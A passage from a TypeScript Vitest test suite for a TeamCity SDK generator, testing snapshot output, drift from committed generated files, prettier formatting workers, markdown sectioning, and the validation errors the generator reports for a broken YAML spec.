// The generator: per-case snapshots of emitted files, the IR dump, determinism, and drift against generated/.
import { cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseCircular, parseDependencyTree } from 'dpdm';
import ts from 'typescript';
import { afterAll, describe, expect, it } from 'vitest';
import { parseDocument } from 'yaml';
import { checkoutCache, generatorSalt, openCache } from '../generator/cache.js';
import { format } from 'prettier';
import { createFormatPool, createFormatter, markdownSections, PRETTIER_OPTIONS } from '../generator/format.js';
import { schemaTable } from '../generator/schema-table.js';
import { buildIr, defaultPaths, generate, type Paths } from '../generator/generate.js';
import type { Api } from '../generator/ir.js';
import type { OperationId } from '../generated/src/operations.js';
import { loadSpec } from '../generator/load.js';
import { jsonSchemas } from '../generator/json-schema.js';
import { loadMcpSpec } from '../generator/mcp.js';
import { locatorKindOf } from '../generator/expand-locators.js';
import { InvalidSpecError, validateSpec } from '../generator/validate.js';
import { handWrittenFiles, HAND_WRITTEN, ownedFiles, writeFiles } from '../generator/write.js';

const root = join(import.meta.dirname, '..');
const tiny: Paths = {
  root: join(root, 'test/fixtures'),
  spec: join(root, 'test/fixtures/tiny-spec'),
  templates: join(root, 'templates'),
  out: join(root, 'generated'),
};

/** One line per fact, sorted: a change to the spec shows here before it shows in any emitted file. */
function dumpIr(api: Api): string {
  const lines: string[] = [];
  for (const area of api.areas) {
    for (const op of area.operations) {
      const id = `${area.name}.${op.name}`;
      lines.push(
        `${id} ${op.method} ${op.runtimePath} fn=${op.fn} from=${op.from}${op.fileTree ? ` tree=${op.fileTree}` : ''}`,
      );
      lines.push(`${id} summary ${op.summary}`);
      for (const a of op.aliases) lines.push(`${id} alias ${a.name}=${a.fn}${a.byMeaning ? ' by meaning' : ''}`);
      for (const p of op.pathParams)
        lines.push(`${id} path ${p.name} ${p.style}${p.locator ? ` locator=${p.locator}` : ''}`);
      for (const q of op.query)
        lines.push(
          `${id} query ${q.name} arg=${q.arg} wire=${q.wire} ${q.type}${q.required ? ' required' : ''}${q.default !== null ? ` default=${q.default}` : ''} from=${q.from}${q.locator ? ` locator=${q.locator}` : ''}`,
        );
      if (op.body) lines.push(`${id} body ${op.body.type} ${op.body.mediaType}${op.body.required ? ' required' : ''}`);
      lines.push(
        `${id} returns ${op.returns.type} ${op.returns.kind} accept=${op.returns.mediaType}${op.returns.seed ? ` seed=${op.returns.seed}` : ''}`,
      );
    }
  }
  for (const e of api.locatorEnums) lines.push(`~enum ${e.name} ${e.values.join('|')}`);
  for (const k of api.locatorKinds) {
    lines.push(
      `~kind ${k.name} type=${k.typeName} from=${k.source}${k.singleValue ? ` single=${k.singleValue.type}` : ''}`,
    );
    for (const d of k.dimensions)
      lines.push(
        `~kind ${k.name}.${d.name} ${d.value}=${d.type}${d.repeat ? ' repeat' : ''}${d.hidden ? ` hidden=${d.source}` : ''}`,
      );
  }
  for (const m of api.models) {
    lines.push(
      `model ${m.name} wire=${m.wire} from=${m.from}${m.collection ? ` collection=${m.collection.item}${m.collection.paged ? ' paged' : ''}` : ''}`,
    );
    for (const p of m.properties) {
      lines.push(
        `model ${m.name}.${p.name} ${p.type}${p.or ? ` or=${p.or}` : ''}${p.enum ? ` enum=${p.enum.join('|')}` : ''} from=${p.from}`,
      );
    }
  }
  return lines.sort().join('\n') + '\n';
}

/** The IR of the real spec, built once: the tests that read it and the generation of the real spec share it. */
let realApi: Api | undefined;
const realIr = () => (realApi ??= buildIr(defaultPaths(root)));

const CASES = [
  'src/areas/widgets.ts',
  'src/client.ts',
  'src/models.ts',
  'src/fields.ts',
  'src/locators.ts',
  'src/operations.ts',
  'operations.json',
  'docs/widgets.md',
];
const snapshotOf = (path: string) => `${path.replaceAll('/', '__')}.snap`;

// One pool of prettier workers formats every generation in this file (each would start its own otherwise).
const sharedPool = createFormatPool();
afterAll(() => sharedPool.close());
// The tiny spec generated once, from scratch, for its snapshots and as the clean side of the hostile text's tests; the
// cache it fills (empty before it) lets the hostile generation format only the files its text changed.
const tinyCache = openCache(mkdtempSync(join(tmpdir(), 'tc-gen-cache-')), generatorSalt(join(root, 'generator')));
const tinyRun = generate(tiny, { cache: tinyCache, pool: sharedPool });

describe('per-case emission (test/fixtures/tiny-spec)', async () => {
  const files = await tinyRun;
  it.each(CASES)('%s', async (path) => {
    await expect(files.get(path)).toMatchFileSnapshot(`__snapshots__/tiny/${snapshotOf(path)}`);
  });

  it('IR dump', async () => {
    await expect(dumpIr(buildIr(tiny))).toMatchFileSnapshot('__snapshots__/tiny/ir.txt');
  });

  it('has no orphaned snapshots', () => {
    const kept = readdirSync(join(import.meta.dirname, '__snapshots__/tiny')).sort();
    expect(kept).toEqual([...CASES.map(snapshotOf), 'ir.txt'].sort());
  });
});

describe('the real spec', () => {
  // One generation serves every test here, through the checkout's store as `npm run check` generates (.ci/run checks
  // from scratch, filling it, before it tests): a regeneration formats again only what the spec's last edits changed.
  // That the store gives the bytes a generation from scratch gives is test/cache.test.ts's first test.
  const first = generate(defaultPaths(root), { api: realIr(), pool: sharedPool, cache: checkoutCache(root) });

  it('IR dump', async () => {
    await expect(dumpIr(realIr())).toMatchFileSnapshot('__snapshots__/ir.txt');
  });

  it('matches the committed generated/ (run npm run generate when this fails)', async () => {
    const files = await first;
    const outDir = join(root, 'generated');
    const onDisk = ownedFiles(outDir).sort();
    expect(onDisk, 'files in generated/').toEqual([...files.keys()].sort());
    const stale = [...files]
      .filter(([path, text]) => readFileSync(join(outDir, path), 'utf8') !== text)
      .map(([p]) => p);
    expect(stale, 'files out of date with spec/').toEqual([]);
  });

  it('matches the committed spec/schema/, the JSON Schemas of the spec files (run npm run generate when this fails)', () => {
    const dir = join(root, 'spec/schema');
    const made = jsonSchemas();
    expect(ownedFiles(dir).sort(), 'files in spec/schema/').toEqual([...made.keys()].sort());
    for (const [path, text] of made)
      expect(readFileSync(join(dir, path), 'utf8'), `spec/schema/${path} out of date`).toBe(text);
  });

  it('never writes a hand-written file: each one under src/ is marked by its first line, and none is made', async () => {
    const files = await first;
    const handWritten = handWrittenFiles(join(root, 'generated'));
    expect(handWritten).toContain('src/runtime/request.ts');
    expect(handWritten.filter((p) => files.has(p))).toEqual([]);
    for (const p of handWritten) expect(readFileSync(join(root, 'generated', p), 'utf8'), p).toContain(HAND_WRITTEN);
  });

  it('keeps a hand-written file on write, refuses to overwrite one, and refuses an unmarked source', () => {
    const dir = mkdtempSync(join(tmpdir(), 'tc-write-'));
    mkdirSync(join(dir, 'src/runtime'), { recursive: true });
    writeFileSync(join(dir, 'src/runtime/mine.ts'), `// ${HAND_WRITTEN}\nexport const mine = 1;\n`);
    writeFileSync(join(dir, 'src/old.ts'), '// Generated by the teamcity-sdk generator. Do not edit.\n');
    const report = writeFiles(
      dir,
      new Map([['src/index.ts', '// Generated by the teamcity-sdk generator. Do not edit.\n']]),
    );
    expect(report.removed).toEqual(['src/old.ts']);
    expect(readFileSync(join(dir, 'src/runtime/mine.ts'), 'utf8')).toContain('mine = 1');
    expect(() => writeFiles(dir, new Map([['src/runtime/mine.ts', 'x']]))).toThrow(/is hand-written/);
    writeFileSync(join(dir, 'src/runtime/new.ts'), 'export const forgot = 1;\n');
    expect(() => ownedFiles(dir)).toThrow(/src\/runtime\/new\.ts/);
    expect(readFileSync(join(dir, 'src/runtime/new.ts'), 'utf8')).toContain('forgot');
  });
});

describe('the operation table (generated/src/operations.ts)', () => {
  it('lists every operation once, in spec order, with the descriptor and function its area module exports', async () => {
    const { operations } = await import('../generated/src/operations.js');
    expect(operations.map((e) => e.id)).toEqual(
      realIr().areas.flatMap((a) => a.operations.map((op) => `${a.name}.${op.name}`)),
    );
    for (const e of operations) {
      const area = (await import(/* @vite-ignore */ join(root, `generated/src/areas/${e.area}.ts`))) as Record<
        string,
        unknown
      >;
      expect(area[`${e.fn}Op`], e.id).toBe(e.op);
      expect([e.op.id, e.op.method, e.op.accept, e.op.kind, e.op.body?.type], e.id).toEqual([
        e.id,
        e.method,
        e.returns.mediaType,
        e.returns.kind,
        e.body?.mediaType,
      ]);
      for (const alias of e.aliases) expect(area[alias], `${e.id} alias ${alias}`).toBe(area[e.fn]);
      expect(typeof area[e.fn]).toBe('function');
    }
  });

  it('is what operations.json holds, without the descriptors and without the words, which only the table has', async () => {
    const { operations } = await import('../generated/src/operations.js');
    const json = JSON.parse(readFileSync(join(root, 'generated/operations.json'), 'utf8')) as unknown;
    const wordless = <T extends { description?: string }>({ description: _, ...rest }: T) => rest;
    expect(json).toEqual(
      operations.map(({ op: _, summary: _s, description: _d, ...entry }) => ({
        ...entry,
        pathParams: entry.pathParams.map(wordless),
        query: entry.query.map(wordless),
        ...(entry.body ? { body: wordless(entry.body) } : {}),
      })),
    );
    expect(JSON.stringify(json)).not.toContain(operations.find((e) => e.description)!.description);
  });

  it('writes each fact once: no default, nothing the id or the descriptor says, an input taken alike once', async () => {
    const { operations } = await import('../generated/src/operations.js');
    const text = readFileSync(join(root, 'generated/src/operations.ts'), 'utf8');
    const count = (s: string) => text.split(s).length - 1;
    for (const key of ['area', 'name', 'fn', 'method', 'arg', 'wire', 'mediaType', 'kind'])
      expect(count(`\n    ${key}: `), key).toBe(0);
    for (const dflt of ['aliases: []', 'pathParams: []', 'query: []', 'required: false'])
      expect(count(dflt), dflt).toBe(0);
    expect(count('docName: ')).toBe(operations.filter((e) => e.docName !== e.fn).length);
    expect(count('\n    path: ')).toBe(operations.filter((e) => e.path !== e.op.path).length);
    // The query input most operations take alike (`fields`) is written once.
    const uses = new Map<string, number>();
    for (const json of operations.flatMap((e) => e.query.map((q) => JSON.stringify(q))))
      uses.set(json, (uses.get(json) ?? 0) + 1);
    const [common] = [...uses].sort((a, b) => b[1] - a[1])[0]!;
    const { description } = JSON.parse(common) as { description: string };
    expect(operations.filter((e) => e.query.some((q) => q.description === description)).length).toBeGreaterThan(1);
    expect(count(description)).toBe(1);
  });

  it('is as prettier prints it, though formatted in pieces (its head, the rows of each area, the table)', async () => {
    const text = readFileSync(join(root, 'generated/src/operations.ts'), 'utf8');
    expect(await format(text, { ...PRETTIER_OPTIONS, parser: 'typescript' })).toBe(text);
  });

  it('is in operations.json one operation a line, each line the entry as JSON', async () => {
    const { operations } = await import('../generated/src/operations.js');
    const lines = readFileSync(join(root, 'generated/operations.json'), 'utf8').split('\n');
    expect([lines[0], lines.at(-2), lines.at(-1)]).toEqual(['[', ']', '']);
    const items = lines.slice(1, -2).map((line) => JSON.parse(line.replace(/,$/, '')) as { id: string });
    expect(items.map((e) => e.id)).toEqual(operations.map((e) => e.id));
  });

  it('types ids as a union: a misspelt id does not compile', async () => {
    const { operations } = await import('../generated/src/operations.js');
    const id: OperationId = 'builds.serve_build';
    // @ts-expect-error not an operation of the client
    const misspelt: OperationId = 'builds.serve_buld';
    expect(operations.some((e) => e.id === id)).toBe(true);
    expect(operations.some((e) => e.id === misspelt)).toBe(false);
  });
});

describe('the prettier workers (generator/format.ts)', () => {
  it('format markdown on a thread of its own: a page does not wait behind TypeScript', async () => {
    const pool = createFormatPool(2);
    try {
      // Each of these takes the TypeScript thread a good fraction of a second, started cold.
      const big = (n: number) => `export const table${n} = [${' { a: 1, b: [2, 3], c: "x" },'.repeat(6000)} ];`;
      const done: string[] = [];
      const track = (name: string, p: Promise<string>) => p.then(() => done.push(name));
      await Promise.all([
        ...[1, 2, 3].map((n) => track(`ts${n}`, pool.format(`t${n}.ts`, big(n), 'babel-ts'))),
        track('md', pool.format('a.md', '# A\n\nsome  text\n', 'markdown')),
      ]);
      expect(done.indexOf('md')).toBeLessThan(done.indexOf('ts2'));
    } finally {
      await pool.close();
    }
  }, 60_000);

  it('are kept by a pool given to formatters: each run formats on it, and only its own close stops it', async () => {
    const pool = createFormatPool(1);
    try {
      for (const n of [1, 2]) {
        const formatter = createFormatter({ pool });
        formatter.add('a.ts', `const  a = ${n}`);
        expect(await formatter.finish()).toEqual(new Map([['a.ts', `const a = ${n};\n`]]));
        await formatter.close();
      }
      expect(await pool.format('b.ts', 'let  b', 'babel-ts')).toBe('let b;\n');
    } finally {
      await pool.close();
    }
  });

  it('answer each file with its own text, however many are sent to a worker at once', async () => {
    const pool = createFormatPool(1);
    try {
      const texts = Array.from({ length: 40 }, (_, i) =>
        i % 2 ? `let  v${i}=${i}` : `# Title  ${i}\n\n-  item ${i}\n`,
      );
      const answers = await Promise.all(texts.map((t, i) => pool.format(`f${i}`, t, i % 2 ? 'babel-ts' : 'markdown')));
      expect(answers).toEqual(texts.map((_, i) => (i % 2 ? `let v${i} = ${i};\n` : `# Title ${i}\n\n- item ${i}\n`)));
      await expect(pool.format('bad.ts', 'let = ;', 'babel-ts')).rejects.toThrow(/prettier could not format bad\.ts/);
      expect(await pool.format('after.ts', 'let  after', 'babel-ts')).toBe('let after;\n');
    } finally {
      await pool.close();
    }
  });

  it('format a text once while it is queued, whichever file asks (both packages ship CHANGELOG.md)', async () => {
    const pool = createFormatPool(1);
    try {
      const first = pool.format('generated/CHANGELOG.md', '# Changelog\n\n-  a\n', 'markdown');
      expect(pool.format('generated-mcp/CHANGELOG.md', '# Changelog\n\n-  a\n', 'markdown')).toBe(first);
      expect(pool.format('a.md', '# Changelog\n\n-  b\n', 'markdown')).not.toBe(first);
      expect(await first).toBe('# Changelog\n\n- a\n');
    } finally {
      await pool.close();
    }
  });
});

describe('markdown formatted in sections (generator/format.ts)', () => {
  const sectionsFormatted = async (text: string, pieceChars?: number) =>
    (
      await Promise.all(
        markdownSections(text, pieceChars).map((t) => format(t, { ...PRETTIER_OPTIONS, parser: 'markdown' })),
      )
    ).join('\n');

  it('is cut before each `## ` heading after a blank line, never inside a fence or where HTML could hide one', () => {
    const page = ['# T', '', 'intro', '', '## A', '', '| a | b |', '|---|---|', '| 1 | 2 |', '', '## B', 'text'];
    expect(markdownSections(page.join('\n'))).toEqual([
      '# T\n\nintro\n',
      '## A\n\n| a | b |\n|---|---|\n| 1 | 2 |\n',
      '## B\ntext',
    ]);
    // A heading in a fence is code, whether the fence is of backticks, tildes, longer or indented.
    for (const [open, close] of [
      ['```', '```'],
      ['~~~text', '~~~'],
      ['````md', '`````'],
      ['  ```', '  ```'],
    ]) {
      const fenced = [
        'intro',
        '',
        open,
        '',
        '## not a heading',
        '```not-a-close',
        '',
        '## still code',
        close,
        '',
        '## C',
        'c',
      ];
      expect(markdownSections(fenced.join('\n')), open).toEqual([fenced.slice(0, 9).join('\n') + '\n', '## C\nc']);
    }
    // A heading right after a paragraph line, and one that is not at a line's start, are not cuts.
    expect(markdownSections('a\n## b\n\n - x\n\n ## c\n')).toHaveLength(1);
    for (const html of ['<!--\n\n## hidden\n-->', '<pre>\n\n## shown as is\n</pre>', '<?x\n\n## x\n?>'])
      expect(markdownSections(`a\n\n${html}\n\n## b\n`), html).toHaveLength(1);
  });

  it('gives what prettier gives for the whole page', async () => {
    const tricky = [
      ['# T', '', '-  a', '-  b'],
      ['## A', '', '1) x', '2) y'],
      ['## B', '', '*  c', '', '```json', '{"a":1}', '```'],
      ['## C', '', '| a |', '|-|', '| long cell |', ''],
    ]
      .map((lines) => lines.join('\n'))
      .join('\n\n');
    expect(markdownSections(tricky)).toHaveLength(4);
    expect(await sectionsFormatted(tricky)).toBe(await format(tricky, { ...PRETTIER_OPTIONS, parser: 'markdown' }));
    // Sections joined into pieces: a cut only where the piece before it (each line with its newline) is that long.
    const [intro, a, b, c] = markdownSections(tricky);
    const longerThanIntro = intro!.length + 2;
    expect(b!.length).toBeGreaterThan(longerThanIntro);
    expect(markdownSections(tricky, longerThanIntro)).toEqual([`${intro}\n${a}`, b, c]);
    expect(markdownSections(tricky, tricky.length)).toEqual([tricky]);
    expect(await sectionsFormatted(tricky, longerThanIntro)).toBe(await sectionsFormatted(tricky));
    // Every page the generator made, in sections (npm run check holds them to its output), as prettier prints it whole,
    // its code blocks formatted too: the generator leaves them as the templates and the spec write them (format.ts).
    const pages = ['generated', 'generated-mcp'].flatMap((dir) =>
      readdirSync(join(root, dir))
        .filter((p) => p.endsWith('.md'))
        .map((p) => join(dir, p))
        .concat(dir === 'generated' ? readdirSync(join(root, dir, 'docs')).map((p) => join(dir, 'docs', p)) : []),
    );
    expect(
      pages.filter((p) => markdownSections(readFileSync(join(root, p), 'utf8')).length > 1).length,
    ).toBeGreaterThan(pages.length / 2);
    for (const page of pages) {
      const text = readFileSync(join(root, page), 'utf8');
      expect(await format(text, { ...PRETTIER_OPTIONS, parser: 'markdown' }), page).toBe(text);
    }
  }, 60_000);
});

describe('validation', () => {
  /** A copy of the tiny spec with one file edited. */
  function broken(edit: (yaml: string) => string, name = 'areas/widgets.yaml'): Paths {
    const dir = mkdtempSync(join(tmpdir(), 'tc-spec-'));
    cpSync(tiny.spec, dir, { recursive: true });
    const file = join(dir, name);
    writeFileSync(file, edit(readFileSync(file, 'utf8')));
    return { ...tiny, root: dir, spec: dir };
  }
  const errorsOf = (paths: Paths) => {
    try {
      buildIr(paths);
    } catch (e) {
      if (e instanceof InvalidSpecError)
        return e.errors.map((x) => `${x.file}:${x.line} ${x.operation ?? ''}: ${x.message}`);
      throw e;
    }
    return [];
  };

  it('names the file, line and operation of each mistake', () => {
    const paths = broken((y) =>
      y.replace('method: PUT', 'method: PATCH').replace('pathParams: [widgetLocator, field]', 'pathParams: [field]'),
    );
    expect(errorsOf(paths)).toEqual([
      'areas/widgets.yaml:22 widgets.set_widget_field: method must be one of GET, POST, PUT, DELETE',
      "areas/widgets.yaml:22 widgets.set_widget_field: pathParams [field] must list the path's placeholders in order: [widgetLocator, field]",
    ]);
  });

  it('refuses an example no body uses, and an example of the wrong kind for its body', () => {
    expect(errorsOf(broken((y) => y.concat('  widgets.serve_widgets: x\n'), 'examples.yaml'))).toEqual([
      'examples.yaml:6 : operations.widgets.serve_widgets: no operation sends that body',
    ]);
    expect(
      errorsOf(
        broken((y) => y.replace('set_widget_field: blue', 'set_widget_field: { color: blue }'), 'examples.yaml'),
      ),
    ).toEqual([
      'areas/widgets.yaml:22 widgets.set_widget_field: its example in spec/examples.yaml must be a text, as its body is',
    ]);
  });

  it('catches unknown keys, bad kinds, duplicate names and doubly defined file-tree operations', () => {
    const errors = errorsOf(
      broken((y) =>
        y
          .replace('kind: string, mediaType: text/plain }', 'kind: text, mediaType: text/plain }')
          .replace('    note: The seeds', '    notes: x\n    note: The seeds')
          .replace('name: serve_icon', 'name: delete')
          .concat(
            '  - { name: get_content, summary: Get x, from: seed, method: GET, path: /app/rest/widgets/x, returns: { type: binary, kind: binary, mediaType: "*/*" }, since: "2018.1" }\n',
          ),
      ),
    );
    expect(errors.join('\n')).toMatch(/widgets\.set_widget_field: returns\.kind must be one of/);
    expect(errors.join('\n')).toMatch(/widgets\.get_status: unknown key "notes"/);
    expect(errors.join('\n')).toMatch(/widgets\.delete: is defined twice in this area/);
    expect(errors.join('\n')).toMatch(
      /widgets\.get_content is stamped from the file-tree set and also defined in the area file/,
    );
  });

  it('names the file, line and model of each mistake in spec/models', () => {
    const paths = broken(
      (y) =>
        y
          .replace('{ name: made, type: date }', '{ name: made, type: Gadget }')
          .replace(
            '{ name: state, type: string, enum: [new, used] }',
            '{ name: state, type: boolean, enum: [new, used] }',
          )
          .replace('collection: { item: widget, paged: true }', 'collection: { item: count, paged: true }')
          .replace('      - { name: nextHref, type: string }\n', '')
          .replace('name: labels, type: "Widget[]", or: "string[]"', 'name: labels, type: "Widget[]", or: "Widget"'),
      'models/widgets.yaml',
    );
    expect(errorsOf(paths)).toEqual([
      'models/widgets.yaml:10 model Widget: property state: enum must be a non-empty list of strings, on a string property',
      'models/widgets.yaml:16 model Widget: property labels: or must be a scalar type other than type, with a note that says which servers send it',
      'models/widgets.yaml:17 model Widgets: collection.item count must name a list property',
      'models/widgets.yaml:17 model Widgets: a paged collection must have a nextHref property',
      'models/widgets.yaml:11 model Widget: property made: model Gadget is not defined in spec/models',
    ]);
  });

  it('names the model meant, at the line that names a model not defined', () => {
    expect(errorsOf(broken((y) => y.replace('type: Widgets, kind: json', 'type: Wigdets, kind: json')))).toEqual([
      'areas/widgets.yaml:20 widgets.serve_widgets: model Wigdets is not defined in spec/models (did you mean Widgets?)',
    ]);
  });

  it('refuses an operation whose result or body model is not in spec/models', () => {
    const paths = broken((y) => y.replace('  - name: Widgets\n', '  - name: Gizmos\n'), 'models/widgets.yaml');
    expect(errorsOf(paths)).toEqual([
      'models/widgets.yaml:15 model Widget: property parts: model Widgets is not defined in spec/models (did you mean Widget?)',
      'areas/widgets.yaml:20 widgets.serve_widgets: model Widgets is not defined in spec/models (did you mean Widget?)',
    ]);
  });

  it('refuses to emit from an invalid spec', async () => {
    await expect(generate(broken((y) => y.replace('from: seed', 'from: guess')))).rejects.toThrow(InvalidSpecError);
  });

  it('reports a YAML syntax error once, with its line and the lines around it, a caret under where it is', () => {
    const paths = broken((y) => y.replace('  - name: delete', '  - name: [delete'));
    expect(errorsOf(paths)).toEqual([
      expect.stringMatching(
        /^areas\/widgets\.yaml:35 : Flow sequence .* \(and \d+ more after it, which may follow from it\)$/,
      ),
    ]);
    expect(() => buildIr(paths)).toThrow(
      [
        '  33 |     since: "2023.11"',
        '  34 |   - name: [delete',
        '> 35 |     summary: Delete a widget',
        '     |     ^',
        '  36 |     from: reference',
      ].join('\n'),
    );
  });

  it('names a misspelt key once, at its line, with the key meant', () => {
    expect(errorsOf(broken((y) => y.replace('    returns: { type: Widgets', '    retruns: { type: Widgets')))).toEqual([
      'areas/widgets.yaml:20 widgets.serve_widgets: unknown key "retruns" (did you mean returns?)',
    ]);
    expect(
      errorsOf(
        broken((y) => y.replace('{ name: made, type: date }', '{ name: made, tpye: date }'), 'models/widgets.yaml'),
      ),
    ).toEqual(['models/widgets.yaml:11 model Widget: property made: unknown key "tpye" (did you mean type?)']);
  });

  it('takes from: hand only with a note that says where TeamCity was seen to do it', () => {
    const HAND = 'needs a note that says where TeamCity was seen to do this';
    const op = (note: string) => (y: string) =>
      y.replace(
        '  - name: delete\n    summary: Delete a widget\n    from: reference\n',
        `  - name: delete\n    summary: Delete a widget\n    from: hand\n${note}`,
      );
    expect(errorsOf(broken(op('')))).toEqual([
      expect.stringMatching(new RegExp(`^areas/widgets\\.yaml:34 widgets\\.delete: from: hand ${HAND}`)),
    ]);
    expect(errorsOf(broken(op('    note: "JetBrains CLI api/widgets.go calls it"\n')))).toEqual([]);
    const model = (y: string) =>
      y.replace(
        '  - name: Widgets\n    wire: widgets\n    from: swagger-2018.1',
        '  - name: Widgets\n    wire: widgets\n    from: hand',
      );
    expect(errorsOf(broken(model, 'models/widgets.yaml'))).toEqual([
      expect.stringMatching(new RegExp(`model Widgets: from: hand ${HAND}`)),
    ]);
  });

  it('refuses a spec file whose first line does not name its JSON Schema, naming the file and the line it needs', async () => {
    const dropFirst = (y: string) => y.slice(y.indexOf('\n') + 1);
    const needs = (file: string, found: string, line: string) =>
      `${file}:1 : the line that names its JSON Schema ${found}: its first line must be "# yaml-language-server: $schema=${line}"`;
    expect(errorsOf(broken(dropFirst))).toEqual([
      needs('areas/widgets.yaml', 'is missing', '../schema/area.schema.json'),
    ]);
    expect(errorsOf(broken((y) => y.replace('models.schema.json', 'area.schema.json'), 'models/widgets.yaml'))).toEqual(
      [needs('models/widgets.yaml', 'names another schema', '../schema/models.schema.json')],
    );
    for (const kind of ['file-tree', 'locators', 'examples', 'tasks']) {
      expect(errorsOf(broken(dropFirst, `${kind}.yaml`))).toEqual([
        needs(`${kind}.yaml`, 'is missing', `schema/${kind}.schema.json`),
      ]);
    }
    // package.yaml and mcp.yaml are read on their own.
    await expect(generate(broken(dropFirst, 'package.yaml'))).rejects.toThrow(
      needs('package.yaml', 'is missing', 'schema/package.schema.json').replace(' :', ':'),
    );
    const paths = broken((y) => y);
    writeFileSync(join(paths.spec, 'mcp.yaml'), 'overrides: {}\n');
    expect(() => loadMcpSpec(paths, buildIr(paths))).toThrow(
      needs('mcp.yaml', 'is missing', 'schema/mcp.schema.json').replace(' :', ':'),
    );
  });

  describe('words', () => {
    const RESTATES = 'summary must say what the operation does, not restate its method and path';

    it('refuses a summary that restates the method or path, is the import placeholder, is too long or is not a line', () => {
      expect(
        errorsOf(
          broken((y) =>
            y
              .replace('summary: List widgets', 'summary: GET widgets')
              .replace('summary: Delete a widget', 'summary: Delete /app/rest/widgets/{widgetLocator}')
              .replace("summary: Download a widget's icon", 'summary: Download /widgets/{widgetLocator}/icon{suffix}')
              .replace('summary: Set one field of a widget, as text', 'summary: "TODO: say what this operation does"'),
          ),
        ),
      ).toEqual([
        `areas/widgets.yaml:7 widgets.serve_widgets: ${RESTATES}`,
        'areas/widgets.yaml:22 widgets.set_widget_field: summary is the placeholder spec:import writes: say what the operation does',
        `areas/widgets.yaml:34 widgets.delete: ${RESTATES}`,
        `areas/widgets.yaml:62 widgets.serve_icon: ${RESTATES}`,
      ]);
      expect(
        errorsOf(
          broken((y) => y.replace('summary: Delete a widget', `summary: Delete a widget${' and more'.repeat(11)}`)),
        ),
      ).toEqual(['areas/widgets.yaml:34 widgets.delete: summary must be at most 99 characters (it is 114)']);
      expect(errorsOf(broken((y) => y.replace('summary: Delete a widget', 'summary: delete a widget.')))).toEqual([
        'areas/widgets.yaml:34 widgets.delete: summary must start with a capital letter and end without a full stop (one imperative line)',
      ]);
      expect(errorsOf(broken((y) => y.replace('    summary: Delete a widget\n', '')))).toEqual([
        'areas/widgets.yaml:34 widgets.delete: summary must be a string',
      ]);
    });

    it('keeps summaries unique within an area, stamped file-tree operations included', () => {
      expect(errorsOf(broken((y) => y.replace('summary: Delete a widget', 'summary: List widgets')))).toEqual([
        "areas/widgets.yaml:34 widgets.delete: its summary is also serve_widgets's: say what tells them apart",
      ]);
      // `{tree}` is the prefix's `tree` once stamped: "a widget's files".
      expect(
        errorsOf(
          broken((y) =>
            y.replace("summary: Download a widget's icon", "summary: Download a file from a widget's files"),
          ),
        ),
      ).toEqual(["file-tree.yaml:13 widgets.get_content: its summary is also serve_icon's: say what tells them apart"]);
      expect(
        errorsOf(
          broken(
            (y) => y.replace("tree: a widget's files", `tree: a widget's files${', really'.repeat(10)}`),
            'file-tree.yaml',
          ),
        ),
      ).toEqual(['file-tree.yaml:13 widgets.get_content: its summary, stamped, is 117 characters: at most 99']);
      expect(errorsOf(broken((y) => y.replace('summary: List widgets', 'summary: List widgets of {tree}')))).toEqual([
        'areas/widgets.yaml:7 widgets.serve_widgets: summary must say what the operation does, not restate its method and path',
      ]);
    });

    it('gives every function name once in an area: an alias may not be an operation or another alias', () => {
      const aliased = (aliases: string) =>
        errorsOf(broken((y) => y.replace('aliases: [read_widget_status]', `aliases: [${aliases}]`)));
      expect(aliased('delete')).toEqual([
        'areas/widgets.yaml:42 widgets.get_status: its alias delete is the name of operation delete',
      ]);
      expect(aliased('get_widgets')).toEqual([
        'areas/widgets.yaml:42 widgets.get_status: its alias get_widgets is the name of an alias of serve_widgets',
      ]);
      // Compared as TypeScript names: set_widget_field0 and set_widget_field_0 are one name.
      expect(
        errorsOf(
          broken((y) =>
            y
              .replace('name: delete', 'name: set_widget_field_0\n    aliases: [remove_widget]')
              .replace('aliases: [read_widget_status]', 'aliases: [set_widget_field0]'),
          ),
        ),
      ).toEqual([
        'areas/widgets.yaml:43 widgets.get_status: its alias set_widget_field0 is the name of operation set_widget_field_0',
      ]);
      expect(aliased('get_status')).toEqual([
        "areas/widgets.yaml:42 widgets.get_status: alias get_status is the operation's own name",
      ]);
      expect(aliased('Read')).toEqual(['areas/widgets.yaml:42 widgets.get_status: aliases.0 must be snake_case']);
      expect(aliased('to_string')).toEqual([
        'areas/widgets.yaml:42 widgets.get_status: alias to_string: its function name "toString" is a key every JavaScript object inherits',
      ]);
      // A name that differs from another only by a number needs one that says what it does.
      expect(errorsOf(broken((y) => y.replace('name: delete', 'name: delete_0')))).toEqual([
        'areas/widgets.yaml:34 widgets.delete_0: a numbered name needs an alias that says what the operation does',
      ]);
      expect(
        errorsOf(broken((y) => y.replace('name: delete', 'name: delete_0\n    aliases: [delete_widget]'))),
      ).toEqual([]);
    });

    it('requires words where an input name cannot say it all, and refuses words for inputs that do not exist', () => {
      expect(errorsOf(broken((y) => y.replace('      field: "The field: `name` or `color`"\n', '')))).toEqual([
        "areas/widgets.yaml:22 widgets.set_widget_field: path parameter field needs words: say what it is in the operation's inputs",
      ]);
      expect(errorsOf(broken((y) => y.replace('      body: The new value, as plain text\n', '')))).toEqual([
        "areas/widgets.yaml:22 widgets.set_widget_field: the text body needs words: say what it is in the operation's inputs",
      ]);
      expect(
        errorsOf(
          broken((y) => y.replace('      fields2: The fields once more', '      fields3: The fields once more')),
        ),
      ).toEqual(['areas/widgets.yaml:42 widgets.get_status: inputs: fields3 is not an input of this operation']);
      expect(
        errorsOf(broken((y) => y.replace('path: "The file\'s path (`a/b.txt`)"', 'path: x'), 'file-tree.yaml')),
      ).toEqual([]);
      expect(
        errorsOf(
          broken(
            (y) => y.replace('      path: "The file\'s path (`a/b.txt`)"\n', '      other: x\n'),
            'file-tree.yaml',
          ),
        ),
      ).toEqual(['file-tree.yaml:3 file-tree.get_content: inputs: other is not an input of this operation']);
      expect(
        errorsOf(
          broken((y) => y.replace('    inputs:\n      path: "The file\'s path (`a/b.txt`)"\n', ''), 'file-tree.yaml'),
        ),
      ).toEqual([
        "file-tree.yaml:11 widgets.get_content: path parameter path needs words: say what it is in the operation's inputs",
      ]);
      expect(errorsOf(broken((y) => y.replace('    noun: widget\n', ''), 'locators.yaml'))).toEqual([
        'locators.yaml:18 : kind Widget: a kind needs its noun (what one item is, in words)',
      ]);
    });

    it('refuses a task whose call is not an operation', () => {
      expect(
